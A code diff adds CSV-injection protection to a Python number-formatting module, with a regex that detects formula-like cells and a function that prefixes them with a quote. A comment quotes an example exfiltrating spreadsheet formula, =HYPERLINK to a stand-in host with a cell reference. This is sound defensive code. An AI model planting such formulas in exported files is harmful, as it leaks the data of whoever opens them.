@@ -1,4 +1,5 @@
-"""Numbers a person can read at a glance: $7.50B, $2.49, 1.667, 32.4 months."""
+"""Numbers a person can read at a glance ($7.50B, $2.49, 1.667, 32.4 months), and CSV
+that a spreadsheet opens as data, never as formulas."""
 
 from __future__ import annotations
 
@@ -43,4 +44,25 @@ def format_numbers(frame: pl.DataFrame) -> pl.DataFrame:
         pl.col(name).map_elements(plain_number, return_dtype=pl.String)
         for name, dtype in frame.schema.items()
         if dtype.is_float()
+    )
+
+
+#: Text that a spreadsheet reads as a formula (OWASP, "CSV Injection"): cells beginning
+#: with = + - @, a tab or a carriage return. A note such as =HYPERLINK("http://x"&A1,"src")
+#: would run when the CSV is opened in Excel or Google Sheets.
+FORMULA_START = r"^[=+\-@\t\r]"
+
+
+def _escaped(name: str) -> pl.Expr:
+    text = pl.col(name).cast(pl.String)
+    return pl.when(text.str.contains(FORMULA_START)).then(pl.lit("'") + text).otherwise(text).alias(name)
+
+
+def escape_formulas(frame: pl.DataFrame) -> pl.DataFrame:
+    """Text cells that begin like a formula, prefixed with a single quote (the OWASP rule),
+    so a spreadsheet shows them as text. Numbers keep their type: -5 stays a number."""
+    return frame.with_columns(
+        _escaped(name)
+        for name, dtype in frame.schema.items()
+        if dtype == pl.String or isinstance(dtype, (pl.Categorical, pl.Enum))
     )
